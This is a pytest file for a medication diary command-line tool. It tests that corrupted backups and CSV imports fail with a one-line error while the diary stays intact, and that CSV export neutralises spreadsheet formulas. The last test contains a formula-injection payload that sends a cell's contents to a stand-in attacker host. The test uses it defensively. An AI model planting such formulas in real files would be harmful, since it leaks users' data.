"""Issue 15: `dosewise diary restore` and `import` refuse a broken file with one line naming the
record and the field (exit 2), and the diary is unchanged: `diary today` still works."""

from __future__ import annotations

import csv
import sqlite3

import pytest

from conftest import run_cli as run


@pytest.fixture(autouse=True)
def diary_database(tmp_path, monkeypatch):
    monkeypatch.setenv("DOSEWISE_DATABASE_URL", f"sqlite:///{tmp_path / 'diary.sqlite3'}")


def _start(capsys) -> None:
    assert run(capsys, "diary", "init", "--name", "Sam", "--tz", "Europe/London")[0] == 0
    assert run(capsys, "diary", "note", "before the restore")[0] == 0


@pytest.mark.parametrize(
    ("damage", "message"),
    [
        (
            "UPDATE patients SET time_zone = 'Mars/Olympus'",
            "table patients, row id 1: time_zone 'Mars/Olympus'",
        ),
        ("UPDATE notes SET recorded_at = '2026-12-02T25:61'", "table notes, row id 1: recorded_at"),
    ],
)
def test_a_broken_backup_is_one_line_and_exit_2(capsys, tmp_path, damage, message):
    _start(capsys)
    backup = tmp_path / "diary.backup"
    assert run(capsys, "diary", "backup", str(backup))[0] == 0
    with sqlite3.connect(backup) as connection:
        connection.execute(damage)
    assert run(capsys, "diary", "note", "after the backup")[0] == 0
    code, out, err = run(capsys, "diary", "restore", str(backup), "--yes")
    assert (code, out) == (2, "")
    assert message in err and "the diary is unchanged" in err and err.count("\n") == 1
    assert "Traceback" not in err
    code, out, _ = run(capsys, "diary", "today")
    assert code == 0
    assert run(capsys, "diary", "backup", str(tmp_path / "after.backup"))[1].count("2 notes") == 1


def test_a_broken_csv_import_is_one_line_and_exit_2(capsys, tmp_path):
    _start(capsys)
    folder = tmp_path / "csv"
    assert run(capsys, "diary", "export", str(folder), "--format", "csv")[0] == 0
    path = folder / "patients.csv"
    with path.open(newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    rows[1][rows[0].index("time_zone")] = "Mars/Olympus"
    with path.open("w", newline="", encoding="utf-8") as file:
        csv.writer(file).writerows(rows)
    code, out, err = run(capsys, "diary", "import", str(folder), "--yes")
    assert (code, out) == (2, "")
    assert "patients.csv line 2: time_zone 'Mars/Olympus' is not valid" in err and err.count("\n") == 1
    assert run(capsys, "diary", "today")[0] == 0


def test_the_cli_export_is_safe_in_a_spreadsheet_and_imports_back_as_typed(capsys, tmp_path):
    _start(capsys)
    payload = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert run(capsys, "diary", "note", payload)[0] == 0
    folder = tmp_path / "csv"
    assert run(capsys, "diary", "export", str(folder), "--format", "csv")[0] == 0
    with (folder / "notes.csv").open(newline="", encoding="utf-8") as file:
        texts = [row["text"] for row in csv.DictReader(file)]
    assert texts == ["before the restore", "'" + payload]
    assert run(capsys, "diary", "import", str(folder), "--yes")[0] == 0
    again = tmp_path / "again"
    assert run(capsys, "diary", "export", str(again), "--format", "csv")[0] == 0
    assert (again / "notes.csv").read_bytes() == (folder / "notes.csv").read_bytes()
